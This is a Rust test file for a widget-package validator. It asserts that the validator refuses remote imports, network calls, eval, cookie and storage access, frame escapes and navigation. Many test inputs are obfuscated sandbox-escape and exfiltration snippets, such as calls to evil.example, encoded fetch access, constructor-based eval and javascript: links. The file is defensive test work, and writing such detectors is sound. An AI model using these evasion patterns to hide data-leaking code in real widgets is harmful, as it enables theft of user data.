//! What a widget may be, what it may import, and what it is refused for.
#![allow(clippy::unwrap_used)]

use adapter_widgets::{
    Widgets,
    widget::{self, Widget},
};
use marketplace_adapter_sdk::{Capability, Category as _, Direction, Finding, Risk, files::Memory};

const JSON: &str = r#"{"title":"CPU","entry":"widget.js","size":{"width":4,"height":2},"topics":["metrics.cpu"],"refresh":"30s"}"#;

fn package(files: &[(&str, &str)]) -> Memory {
    [("widget.json", JSON)].into_iter().chain(files.iter().copied()).collect()
}

fn read(files: &[(&str, &str)]) -> Result<Widget, Vec<Finding>> {
    widget::read(&package(files), "cpu", &[])
}

/// A widget whose module does `body` and exports a component.
fn with(body: &str) -> Result<Widget, Vec<Finding>> {
    read(&[("widget.js", &format!("{body}\nexport default function Widget() {{ return null; }}"))])
}

fn rules<T>(result: Result<T, Vec<Finding>>) -> Vec<String> {
    result.err().unwrap_or_default().into_iter().map(|finding| finding.rule).collect()
}

fn remarks(widget: &Widget) -> Vec<&str> {
    widget.remarks.iter().map(|remark| remark.rule.as_str()).collect()
}

#[test]
fn a_widget_needs_the_topics_and_the_interval_that_it_names() {
    let widget = with(
        "import { useTopic } from '@marketplace/widget';\nfunction A() { return useTopic('metrics.cpu'); }",
    )
    .unwrap();
    assert_eq!(widget.needed, ["data:read.metrics.cpu", "refresh:30s"]);
    assert_eq!(widget.modules, ["widget.js"]);
    assert_eq!(remarks(&widget), [""; 0]);
    let entry = widget.entry("cpu");
    assert_eq!(entry["entry"], "widget.js");
    assert_eq!(entry["export"], "default");
    assert_eq!(entry["topics"], serde_json::json!(["metrics.cpu"]));
    assert_eq!(entry["size"]["width"], 4);
}

#[test]
fn a_component_may_be_exported_in_every_usual_way() {
    for module in [
        "export default function () {}",
        "export default class extends X {}\nimport { Component as X } from 'react'",
        "export default () => null",
        "const W = () => null; export default W",
        "function W() {} export { W as default }",
        "var a = () => null, b = a; export { b as default }",
        "import { memo } from 'react'; export default memo(() => null)",
        "import * as React from 'react'; const W = React.forwardRef((p, r) => null); export default W",
        "import React from 'react'; export default React.memo(function W() {})",
        "export { W as default }; import { W } from './w.js'",
        "export { W as default } from './w.js'",
        "export { default } from './again.mjs'",
    ] {
        let files = [
            ("widget.js", module),
            ("w.js", "export function W() {}"),
            ("again.mjs", "export { W as default } from './w.js'"),
        ];
        assert_eq!(rules(read(&files)), [""; 0], "{module}");
        assert!(!remarks(&read(&files).unwrap()).contains(&"widget.export"), "{module}");
    }
    let named = JSON.replace("\"entry\"", "\"export\":\"Gauge\",\"entry\"");
    let files = [
        ("widget.json", named.as_str()),
        ("widget.js", "export * from './w.js'"),
        ("w.js", "export class Gauge {}"),
    ];
    assert_eq!(rules(read(&files)), [""; 0]);
}

#[test]
fn an_export_that_react_cannot_draw_is_refused() {
    for module in [
        "",
        "export const Widget = () => null",
        "export default {}",
        "export default 'text'",
        "export default [1]",
        "const a = 1; export default a",
        "export default async () => null",
        "export default function* () {}",
        "let a; export { a as default }",
        "import * as a from './w.js'; export default a",
        "export { nothing as default } from './w.js'",
        "export * from './w.js'",
        "export { default } from './widget.js'",
        "export default null",
        "export default undefined",
    ] {
        assert_eq!(
            rules(read(&[("widget.js", module), ("w.js", "export default () => null")])),
            ["widget.export"],
            "{module}"
        );
    }
    let unknown = read(&[
        ("widget.js", "import { f } from './w.js'; export default f(1)"),
        ("w.js", "export const f = x => x"),
    ])
    .unwrap();
    assert!(remarks(&unknown).contains(&"widget.export"));
}

#[test]
fn imports_other_than_files_and_the_hosts_modules_are_refused() {
    for (import, rule) in [
        ("import x from 'lodash'", "widget.bare-import"),
        ("import 'react/jsx-dev-runtime'", "widget.bare-import"),
        ("import { createRoot } from 'react-dom/client'", "widget.bare-import"),
        ("export { x } from 'd3'", "widget.bare-import"),
        ("export * from 'd3'", "widget.bare-import"),
        ("import('lodash')", "widget.bare-import"),
        ("import 'https://evil.example/x.js'", "widget.remote-import"),
        ("import '//evil.example/x.js'", "widget.remote-import"),
        ("import '\\\\\\\\evil.example/x.js'", "widget.remote-import"),
        ("import 'ht\\ntps://evil.example/x.js'", "widget.remote-import"),
        ("import '\\x68ttps://evil.example/x.js'", "widget.remote-import"),
        ("import 'data:text/javascript,alert(1)'", "widget.remote-import"),
        ("import 'blob:x'", "widget.remote-import"),
        ("import('https://evil.example/x.js')", "widget.remote-import"),
        ("import `https://x`", "widget.syntax"),
        ("import './style.css'", "widget.import"),
        ("import '../outside.js'", "widget.import"),
        ("import './x%2e.js'", "widget.import"),
        ("import './x.js?y'", "widget.import"),
        ("import './x'", "widget.import"),
        ("import x from './x.json' with { type: 'json' }", "widget.import"),
        ("import './missing.js'", "widget.missing-module"),
        ("import('./missing.js')", "widget.missing-module"),
        ("import(name)\nvar name", "widget.dynamic-import"),
        ("import('./' + 'x.js')", "widget.missing-module"),
        ("import('./' + name)\nvar name", "widget.dynamic-import"),
    ] {
        assert_eq!(rules(with(import)), [rule], "{import}");
    }
    assert_eq!(
        rules(with(
            "import { createElement } from 'react'; import { jsx } from 'react/jsx-runtime'; import { createPortal } from 'react-dom'"
        )),
        [""; 0]
    );
}

#[test]
fn imports_are_followed_through_the_package() {
    let widget = read(&[
        ("widget.js", "import './lib/a.js'; export default () => import(`./lib/c.mjs`)"),
        ("lib/a.js", "export * from '../b.js'"),
        ("b.js", "import './widget.js'; export const b = 1"),
        ("lib/c.mjs", ""),
        ("lib/unused.js", ""),
        ("README.md", ""),
    ])
    .unwrap();
    assert_eq!(widget.modules, ["b.js", "lib/a.js", "lib/c.mjs", "widget.js"]);
    assert!(widget.remarks.iter().any(|r| r.rule == "widget.unused-file" && r.subject == "lib/unused.js"));
    let found =
        read(&[("widget.js", "import './a.js'; export default () => null"), ("a.js", "\n  fetch('x')")])
            .unwrap_err();
    assert_eq!((found[0].rule.as_str(), found[0].subject.as_str()), ("widget.network", "a.js:2:3"));
}

#[test]
fn what_a_browser_offers_and_a_widget_cannot_use_is_refused() {
    for (code, rule) in [
        ("fetch('/x')", "widget.network"),
        ("const f = fetch", "widget.network"),
        ("window.fetch('/x')", "widget.network"),
        ("globalThis['fetch']('/x')", "widget.network"),
        ("window?.self.fetch('/x')", "widget.network"),
        ("self[`fet\\x63h`]('/x')", "widget.network"),
        ("f\\u0065tch('/x')", "widget.network"),
        ("document.defaultView.fetch('/x')", "widget.network"),
        ("new XMLHttpRequest()", "widget.network"),
        ("new WebSocket('wss://x')", "widget.network"),
        ("new EventSource('/x')", "widget.network"),
        ("new Worker('x.js')", "widget.network"),
        ("navigator.sendBeacon('/x')", "widget.network"),
        ("window.navigator['sendBeacon']('/x')", "widget.network"),
        ("eval('1')", "widget.code"),
        ("(0, eval)('1')", "widget.code"),
        ("new Function('return 1')", "widget.code"),
        ("Function('return 1')", "widget.code"),
        ("globalThis.Function('return 1')", "widget.code"),
        ("importScripts('x.js')", "widget.code"),
        ("document.write('x')", "widget.code"),
        ("setTimeout('alert(1)', 1)", "widget.code"),
        ("localStorage.x = 1", "widget.storage"),
        ("document.cookie", "widget.storage"),
        ("document['cookie']", "widget.storage"),
        ("indexedDB.open('x')", "widget.storage"),
        ("window.parent.document", "widget.frame"),
        ("top.location = 'x'", "widget.frame"),
        ("parent.postMessage(1, '*')", "widget.frame"),
        ("location = 'https://evil.example'", "widget.navigation"),
        ("window.location.href = 'x'", "widget.navigation"),
        ("open('https://evil.example')", "widget.navigation"),
        ("navigator.geolocation", "widget.device"),
        ("window[name]\nvar name = String(1)", "widget.hidden-global"),
        ("globalThis['fe' + 'tch']('/x')", "widget.network"),
        ("const a = 'fe', b = `${a}tch`; window[b]('/x')", "widget.network"),
        ("window[on ? 'fetch' : 'blur']()\nvar on", "widget.network"),
        ("const w = window; w.fetch('/x')", "widget.network"),
        ("const g = typeof globalThis === 'object' ? globalThis : self; g.fetch('/x')", "widget.network"),
        ("const g = globalThis || window, h = g; h['fetch']('/x')", "widget.network"),
        ("const { fetch: f } = window", "widget.network"),
        ("const { 'fetch': f } = globalThis", "widget.network"),
        ("let fetch; ({ fetch } = window)", "widget.network"),
        ("let f; ({ fetch: f } = window)", "widget.network"),
        ("const { sendBeacon } = navigator", "widget.network"),
        ("const { cookie } = document", "widget.storage"),
        ("const { ...all } = window", "widget.hidden-global"),
        ("const { [k]: all } = document\nvar k", "widget.hidden-global"),
        ("Function('return this')().fetch('/x')", "widget.network"),
        ("const n = navigator; n.sendBeacon('/x')", "widget.network"),
        ("Reflect.get(window, 'fetch')('/x')", "widget.network"),
        ("Reflect.get(globalThis, k)\nvar k", "widget.hidden-global"),
        ("Object.getOwnPropertyDescriptor(document, 'cookie')", "widget.storage"),
        ("Function.prototype.constructor('x')", "widget.code"),
        ("Function.apply(null, ['x'])", "widget.code"),
        ("const F = Function; F('x')", "widget.code"),
        ("(() => {}).constructor('x')", "widget.code"),
        ("(async function () {}).constructor", "widget.code"),
        ("[].constructor.constructor('return 1')()", "widget.code"),
        ("''['constructor']['constructor']", "widget.code"),
        ("x.constructor('return 1')\nvar x", "widget.code"),
        ("setTimeout('alert(' + x + ')', 1)\nvar x", "widget.code"),
        ("setInterval(`alert(${x})`, 1)\nvar x", "widget.code"),
        ("WebAssembly.instantiate(x)\nvar x", "widget.code"),
        ("new BroadcastChannel('x')", "widget.network"),
        ("new webkitSpeechRecognition()", "widget.device"),
        ("location.assign('x')", "widget.navigation"),
        ("location.href = 'x'", "widget.navigation"),
        ("[location.href] = ['x']", "widget.navigation"),
        ("for (location.hash of ['x']);", "widget.navigation"),
        ("const l = location", "widget.navigation"),
        ("document[1 + 1]", "widget.hidden-global"),
        ("const react = require('react')", "widget.commonjs"),
    ] {
        let found = rules(with(code));
        assert!(
            !found.is_empty() && found.iter().all(|found| found == rule),
            "{code} is refused by {found:?}, not {rule}"
        );
    }
}

#[test]
fn a_name_is_judged_by_what_it_is_bound_to() {
    for code in [
        "function f(fetch) { return fetch('x'); }",
        "const top = 1, parent = top, open = parent; console.log(open)",
        "class Client { fetch() { return this.fetch(); } } new Client().location",
        "const o = { fetch: 1, eval: 2 }; o.fetch; o['eval']",
        "typeof fetch === 'function'; typeof window !== 'undefined'; typeof window.localStorage",
        "window.innerWidth; window.addEventListener('resize', () => {}); document.createElement('p'); navigator.language",
        "setTimeout(() => {}, 1); (() => {}) instanceof Function",
        "const words = 'fetch eval localStorage'; /* fetch('x') */ // eval('x')",
        "import { open } from './w.js'; open()",
        "class E { clone() { return new this.constructor('x'); } }",
        "const root = typeof self === 'object' ? self : Function('return this')(); root.Symbol; root[String(1)]",
        "document[on ? 'addEventListener' : 'removeEventListener']('x', () => {}); var on",
        "if (window.location === void 0 || null == window.fetch || window.parent !== window) setTimeout(() => {})",
        "window.location.hostname; location.hash.slice(1)",
        "typeof exports === 'object' && exports; typeof module === 'object' && module",
    ] {
        let module = format!("{code}\nexport default function Widget() {{ return null; }}");
        assert_eq!(
            rules(read(&[("widget.js", &module), ("w.js", "export function open() {}")])),
            [""; 0],
            "{code}"
        );
    }
    assert!(remarks(&with("const w = globalThis").unwrap()).contains(&"widget.global-object"));
}

#[test]
fn topics_are_read_where_they_can_be_seen() {
    let import = "import { useTopic, subscribe as listen } from '@marketplace/widget';\n";
    for (code, expected) in [
        ("useTopic('metrics.cpu')", ""),
        ("useTopic(`metrics.cpu`)", ""),
        ("const T = 'metrics.cpu'; listen(T, () => {})", ""),
        ("function f(useTopic) { useTopic(1) }", ""),
        ("useTopic('metrics.memory')", "widget.undeclared-topic"),
        ("listen('metrics.memory', () => {})", "widget.undeclared-topic"),
        ("useTopic('metrics.*')", "widget.undeclared-topic"),
        ("let T = 'metrics.cpu'; T = 'secret'; useTopic(T)", "widget.hidden-topic"),
        ("useTopic('metrics.' + x); var x", "widget.hidden-topic"),
        ("useTopic()", "widget.hidden-topic"),
        ("useTopic(...['metrics.cpu'])", "widget.hidden-topic"),
        ("const f = useTopic; f('secret')", "widget.hidden-topic"),
        ("['a'].map(useTopic)", "widget.hidden-topic"),
        ("export { useTopic }", "widget.hidden-topic"),
        ("useTopic('Metrics.CPU')", "widget.topic"),
        ("useTopic('*')", "widget.topic"),
    ] {
        let expected: Vec<&str> = [expected].into_iter().filter(|rule| !rule.is_empty()).collect();
        assert_eq!(rules(with(&format!("{import}{code}"))), expected, "{code}");
    }
    for (code, expected) in [
        ("W.useTopic('metrics.cpu'); W.useSettings()", ""),
        ("W['use' + 'Topic']('metrics.' + 'cpu')", ""),
        ("(0, W.useTopic)('metrics.cpu')", ""),
        ("W.useTopic?.(`metrics.cpu`)", ""),
        ("W.useTopic('metrics.memory')", "widget.undeclared-topic"),
        ("(0, W.subscribe)('metrics.memory', () => {})", "widget.undeclared-topic"),
        ("W['useTopic'](x); var x", "widget.hidden-topic"),
        ("const f = W.useTopic", "widget.hidden-topic"),
        ("W.useTopic.call(null, 'secret')", "widget.hidden-topic"),
    ] {
        let expected: Vec<&str> = [expected].into_iter().filter(|rule| !rule.is_empty()).collect();
        assert_eq!(
            rules(with(&format!("import * as W from '@marketplace/widget';\n{code}"))),
            expected,
            "{code}"
        );
    }
    for import in [
        "import * as host from '@marketplace/widget'; const all = host",
        "import * as host from '@marketplace/widget'; host[x]('metrics.cpu'); var x",
        "import * as host from '@marketplace/widget'; host.readEverything()",
        "import host from '@marketplace/widget'",
        "import { readEverything } from '@marketplace/widget'",
        "export { useTopic } from '@marketplace/widget'",
        "export * from '@marketplace/widget'",
        "import('@marketplace/widget')",
    ] {
        assert_eq!(rules(with(import)), ["widget.host-api"], "{import}");
    }
}

#[test]
fn needed_are_the_fewest_permissions() {
    let json = JSON.replace(
        "[\"metrics.cpu\"]",
        "[\"metrics.cpu\",\"metrics.*\",\"metricsecret\",\"metrics.disk.*\",\"a.b\"]",
    );
    let widget = read(&[("widget.json", &json), ("widget.js", "export default () => null")]).unwrap();
    assert_eq!(
        widget.needed,
        ["data:read.a.b", "data:read.metrics.*", "data:read.metricsecret", "refresh:30s"]
    );
    let declared: Vec<String> =
        ["data:read.a.*", "data:read.metrics.*", "data:read.metricsecret", "refresh:10s"]
            .map(String::from)
            .into();
    assert_eq!(
        Widgets::grammar()
            .compare(&declared, &widget.needed)
            .into_iter()
            .filter(|c| matches!(c.direction, Direction::Added | Direction::Widened))
            .count(),
        0
    );
    let less: Vec<String> = ["data:read.metrics.cpu", "refresh:60s"].map(String::from).into();
    assert_eq!(
        Widgets::grammar()
            .compare(&less, &widget.needed)
            .into_iter()
            .filter(|c| matches!(c.direction, Direction::Added | Direction::Widened))
            .count(),
        4
    );
}

#[test]
fn source_that_no_browser_runs_is_named_for_what_it_is() {
    let one = |module: &str| read(&[("widget.js", module)]).unwrap_err().remove(0);
    let jsx = one("export default () => <p>Hi</p>;");
    assert_eq!((jsx.rule.as_str(), jsx.subject.as_str()), ("widget.jsx", "widget.js:1:22"));
    assert!(jsx.message.contains("Compile"));
    assert_eq!(one("export default (a: string): number => 1;").rule, "widget.typescript");
    assert_eq!(one("export default (a: string) => <p>{a}</p>;").rule, "widget.typescript");
    assert_eq!(one("export default function (").rule, "widget.syntax");
    assert_eq!(one("let a; let a; export default () => a").rule, "widget.syntax");
    assert_eq!(one("with (a) {}\nexport default () => 1").rule, "widget.syntax");
    assert_eq!(rules(read(&[("widget.js", "module.exports = () => null")])), ["widget.commonjs"]);
}

#[test]
fn what_is_drawn_loads_nothing_from_elsewhere_and_leads_nowhere() {
    let import = "import { jsx as _jsx } from 'react/jsx-runtime';\nimport React, { createElement as h } from 'react';\nvar id;\n";
    for (code, rule) in [
        ("_jsx('img', { src: 'https://evil.example/x.png' })", "widget.network"),
        ("_jsx('img', { src: `https://evil.example/${id}` })", "widget.network"),
        ("_jsx('img', { 'srcSet': '//evil.example/x.png 2x' })", "widget.network"),
        ("h('video', { poster: 'ht' + 'tps://evil.example' })", "widget.network"),
        ("React.createElement('image', { xlinkHref: 'https://evil.example/x' })", "widget.network"),
        ("(0, React.createElement)('img', { src: '\\\\\\\\evil.example' })", "widget.network"),
        ("new Image().src = 'https://evil.example/?' + id", "widget.network"),
        ("_jsx('a', { href: 'https://evil.example' })", "widget.navigation"),
        ("_jsx('form', { action: 'https://evil.example' })", "widget.navigation"),
        ("_jsx('a', { href: 'java\\nscript:alert(1)' })", "widget.code"),
        ("id.setAttribute('src', 'https://evil.example')", "widget.network"),
        ("_jsx('iframe', {})", "widget.element"),
        ("_jsx('link', { rel: 'prefetch', href: './x' })", "widget.element"),
        ("document.createElement('SCRIPT')", "widget.element"),
        ("document.createElementNS('http://www.w3.org/1999/xhtml', 'b')", ""),
        ("_jsx('div', { style: { backgroundImage: 'url(https://evil.example/x)' } })", "widget.network"),
        ("const css = `@import url(\"//evil.example/x.css\");`", "widget.network"),
        ("const css = '.x { background: URL( \\'https://evil.example\\' ) }'", "widget.network"),
        ("_jsx('svg', { xmlns: 'http://www.w3.org/2000/svg', children: _jsx('use', { href: '#x' }) })", ""),
        (
            "_jsx('form', { onSubmit: () => {} }); _jsx('img', { src: new URL('./x.png', import.meta.url).href })",
            "",
        ),
        ("const o = { src: 'https://evil.example' }", ""),
    ] {
        let expected: Vec<&str> = [rule].into_iter().filter(|rule| !rule.is_empty()).collect();
        assert_eq!(rules(with(&format!("{import}{code}"))), expected, "{code}");
    }
    let widget =
        with(&format!("{import}_jsx('p', {{ dangerouslySetInnerHTML: {{ __html: id }} }})")).unwrap();
    assert!(remarks(&widget).contains(&"widget.markup"));
}

#[test]
fn a_module_of_a_hundred_thousand_uses_is_judged_in_no_time() {
    let start = std::time::Instant::now();
    assert!(with(&format!("var f = () => 1;{}", "f(1);".repeat(80_000))).is_ok());
    let many = "fetch;".repeat(80_000);
    assert_eq!(rules(with(&many)).len(), 50);
    let many = "f(window);".repeat(50_000);
    assert_eq!(with(&format!("var f = () => 1;{many}")).unwrap().remarks.len(), 50);
    // Tenths of a second; with a look at every use for every use it was half a minute.
    assert!(start.elapsed().as_secs() < 10, "{:?}", start.elapsed());
}

#[test]
fn the_descriptor_is_read_strictly() {
    let bad = |json: &str| rules(read(&[("widget.json", json), ("widget.js", "export default () => null")]));
    assert_eq!(
        bad(&JSON.replace("{\"title\"", "{\"x-mine\":1,\"$schema\":\"s\",\"name\":\"cpu\",\"title\"")),
        [""; 0]
    );
    assert_eq!(bad("{"), ["widget.json"]);
    assert_eq!(bad("[]"), ["widget.json"]);
    assert_eq!(bad(&JSON.replace("{\"title\"", "{\"title\":\"a\",\"title\"")), ["widget.json"]);
    assert_eq!(bad(&JSON.replace("\"width\":4", "\"width\":4,\"width\":5")), ["widget.json"]);
    assert_eq!(bad(&JSON.replace("\"refresh\"", "\"Refresh\"")), ["widget.unknown-key"]);
    assert_eq!(bad("{}"), ["widget.field"; 3]);
    for (from, to) in [
        ("\"CPU\"", "\"\""),
        ("\"CPU\"", "7"),
        ("\"CPU\"", "\"a\\u0007b\""),
        ("\"widget.js\"", "\"../widget.js\""),
        ("\"widget.js\"", "\"./widget.js\""),
        ("\"widget.js\"", "\"/widget.js\""),
        ("\"widget.js\"", "\"widget.json\""),
        ("\"widget.js\"", "\"https://x/widget.js\""),
        ("\"width\":4", "\"width\":13"),
        ("\"width\":4", "\"width\":0"),
        ("\"width\":4", "\"width\":1.5"),
        ("\"width\":4", "\"width\":4,\"depth\":1"),
        ("\"width\":4", "\"width\":4,\"min\":{\"width\":5,\"height\":1}"),
        ("\"metrics.cpu\"", "\"*\""),
        ("\"metrics.cpu\"", "\"Metrics\""),
        ("\"metrics.cpu\"", "\"a\",\"a\""),
        ("\"metrics.cpu\"", "1"),
        ("\"30s\"", "\"30\""),
        ("\"30s\"", "\"25h\""),
        ("\"30s\"", "30"),
        ("{\"title\"", "{\"name\":\"other\",\"title\""),
        ("{\"title\"", "{\"export\":\"a b\",\"title\""),
        ("{\"title\"", "{\"settings\":{\"a\":{\"type\":\"object\"}},\"title\""),
        ("{\"title\"", "{\"settings\":{\"a\":{\"type\":\"string\",\"default\":1}},\"title\""),
        (
            "{\"title\"",
            "{\"settings\":{\"a\":{\"type\":\"string\",\"enum\":[\"x\"],\"default\":\"y\"}},\"title\"",
        ),
    ] {
        assert_eq!(bad(&JSON.replace(from, to)), ["widget.field"], "{from} as {to}");
    }
    let mut none = package(&[("widget.js", "")]);
    none.0.remove("widget.json");
    assert_eq!(rules(widget::read(&none, "cpu", &[])), ["widget.no-descriptor"]);
    assert_eq!(rules(read(&[])), ["widget.missing-module"]);
}

#[test]
fn assets_are_what_their_names_say() {
    let mut package = package(&[("widget.js", "export default () => null"), ("logo.svg", "<svg/>")]);
    package.0.insert("logo.png".into(), b"\x89PNG\r\n\x1a\n....".to_vec());
    let widget = widget::read(&package, "cpu", &[]).unwrap();
    assert_eq!(widget.assets, ["logo.png"]);
    assert!(widget.remarks.iter().any(|r| r.subject == "logo.svg"));
    package.0.insert("fake.png".into(), b"<html>".to_vec());
    assert_eq!(rules(widget::read(&package, "cpu", &[])), ["widget.asset-content"]);
}

#[test]
fn a_module_that_cannot_be_checked_is_refused() {
    let large = format!("/*{}*/export default () => null", "x".repeat(1024 * 1024));
    assert_eq!(rules(read(&[("widget.js", &large)])), ["widget.too-large"]);
    let many = "fetch('x');".repeat(1000);
    assert_eq!(rules(with(&many)).len(), 50);
}

#[test]
fn permissions_are_understood_or_refused_with_the_reason() {
    let grammar = Widgets::grammar();
    let grant = |permission: &str| grammar.validate(&[permission.to_owned()]);
    let grants = grammar
        .validate(
            &[
                "data:read.metrics.cpu",
                "data:read.a_b-1.*",
                "refresh:30s",
                "refresh:1s",
                "refresh:5m",
                "refresh:24h",
            ]
            .map(String::from),
        )
        .unwrap();
    let meant: Vec<_> = grants.iter().map(|grant| (grant.capability.clone(), grant.risk)).collect();
    assert_eq!(
        meant,
        [
            (Capability::ReadData("metrics.cpu".into()), Risk::Low),
            (Capability::ReadData("a_b-1.*".into()), Risk::Medium),
            (Capability::RefreshEvery(30), Risk::Low),
            (Capability::RefreshEvery(1), Risk::Medium),
            (Capability::RefreshEvery(300), Risk::Low),
            (Capability::RefreshEvery(86400), Risk::Low),
        ]
    );
    for permission in [
        "data:read.",
        "data:read.*",
        "data:read..*",
        "data:read.a.",
        "data:read..a",
        "data:read.A",
        "data:read.a*",
        "data:read.*.a",
        "data:read.a.*.b",
        "data:read.a b",
        "data:read.é",
        "refresh:",
        "refresh:s",
        "refresh:0s",
        "refresh:05s",
        "refresh:+5s",
        "refresh:5",
        "refresh:5d",
        "refresh:25h",
        "refresh:86401s",
        "refresh:99999999999s",
        "refresh:1.5s",
        "refresh:5S",
        "refresh:5é",
    ] {
        assert_eq!(rules(grant(permission)), ["permission.malformed"], "{permission}");
    }
    assert_eq!(rules(grant(&format!("data:read.{}", "a".repeat(200)))), ["permission.malformed"]);
    assert_eq!(rules(grant("network")), ["permission.unknown"]);
    assert_eq!(rules(grant("data:write.metrics")), ["permission.unknown"]);
    let two: Vec<String> = ["refresh:30s", "refresh:60s"].map(String::from).into();
    assert_eq!(
        rules(widget::read(&package(&[("widget.js", "export default () => null")]), "cpu", &two)),
        ["permission.duplicate"]
    );
}
